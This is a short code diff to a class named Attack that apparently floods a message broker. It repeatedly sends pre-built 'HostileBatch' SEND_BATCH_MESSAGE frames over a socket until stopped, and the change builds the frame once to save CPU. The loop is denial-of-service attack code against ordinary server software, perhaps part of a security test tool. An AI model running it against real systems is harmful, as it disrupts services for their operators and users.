@@ -184,10 +184,10 @@ class Attack:
         """Send one batch, wait for its answer, again until stopped."""
         sock = self.connect()
         sock.settimeout(0.5)
-        opaque, decoder = 0, FrameDecoder(64 << 20)
+        decoder = FrameDecoder(64 << 20)
+        frame = send_frame(1, RequestCode.SEND_BATCH_MESSAGE, "HostileBatch", body)  # built once: CPU is shared
         while not self.stop.is_set():
-            opaque += 1
-            self.send_all(sock, send_frame(opaque, RequestCode.SEND_BATCH_MESSAGE, "HostileBatch", body), self.stop)
+            self.send_all(sock, frame, self.stop)
             answered = False
             while not answered and not self.stop.is_set():
                 try:
